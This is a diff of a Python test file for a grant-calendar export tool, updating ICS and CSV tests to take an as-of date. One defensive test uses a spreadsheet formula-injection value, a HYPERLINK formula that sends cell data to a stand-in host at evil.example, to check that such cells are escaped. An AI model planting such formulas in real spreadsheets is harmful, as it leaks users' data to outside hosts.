@@ -118,14 +118,16 @@ def test_compute_csv_and_json_read_back_exactly_the_name(tmp_path_factory, text)
 
 @given(ANY_TEXT)
 def test_ics_reads_back_the_text_with_no_raw_control_character(text):
-    data = as_ics([_window(text)], GRANT_FACTS).encode("utf-8")
+    data = as_ics([_window(text)], GRANT_FACTS, date(2026, 5, 1)).encode("utf-8")
     body = data.replace(b"\r\n", b"")
     assert not any(is_unsafe(char) for char in body.decode("utf-8"))
     (event,) = icalendar.Calendar.from_ical(data).walk("VEVENT")
     shown = visible(text, keep="\n")
-    assert str(event["SUMMARY"]) == f"Election window: {shown} (jsmith), exhibit-i, exhibit-i"
+    assert str(event["SUMMARY"]) == f"Last day to elect: {shown} (jsmith), exhibit-i, exhibit-i"
+    description = str(event["DESCRIPTION"])
+    assert description.startswith(f"Last day: June 22, 2026. Rule: rule {shown}.\n")
     note = f"\nNote: {shown}." if text else ""  # an empty note is no note
-    assert str(event["DESCRIPTION"]).endswith(f"Rule: rule {shown}.{note}")
+    assert description.endswith(f"Opens: May 1, 2026.{note}")
 
 
 # ------------------------------------------------------------------ Markdown (CommonMark)
@@ -187,7 +189,7 @@ def _named(tmp_path: Path, name: str, file: str = "grant.yaml", text: str = SAMP
 
 def test_calendar_csv_cells_that_look_like_formulas_are_prefixed(cli, tmp_path):
     formula = '=HYPERLINK("http://evil.example/?"&A1,"Jane")'
-    result = cli("calendar", _named(tmp_path, formula), "--format", "csv")
+    result = cli("calendar", _named(tmp_path, formula), "--format", "csv", "--as-of", "2026-05-01")
     assert result.exit_code == 0, result.output
     rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
     jane = [row for row in rows if row["subject"] == "jsmith"]
@@ -251,12 +253,11 @@ def test_escape_sequences_in_a_file_name_reach_no_terminal(cli, tmp_path, monkey
 
 def test_ics_of_a_name_with_separators_reads_back_exactly(cli, tmp_path):
     name = 'Smith, Jane; "Q." \\ Esq.'
-    result = cli("calendar", _named(tmp_path, name), "--format", "ics")
+    result = cli("calendar", _named(tmp_path, name), "--format", "ics", "--as-of", "2026-05-01")
     assert result.exit_code == 0, result.output
-    summaries = [
-        str(e["SUMMARY"]) for e in icalendar.Calendar.from_ical(result.stdout).walk("VEVENT")
-    ]
-    assert any(f": {name} (jsmith), Exhibit I" in s for s in summaries), summaries
+    events = icalendar.Calendar.from_ical(result.stdout).walk("VEVENT")
+    described = [str(event["DESCRIPTION"]) for event in events]
+    assert any(f"{name} (jsmith)" in text for text in described), described
 
 
 def test_the_progress_bar_prints_no_markup_tag(cli, tmp_path):
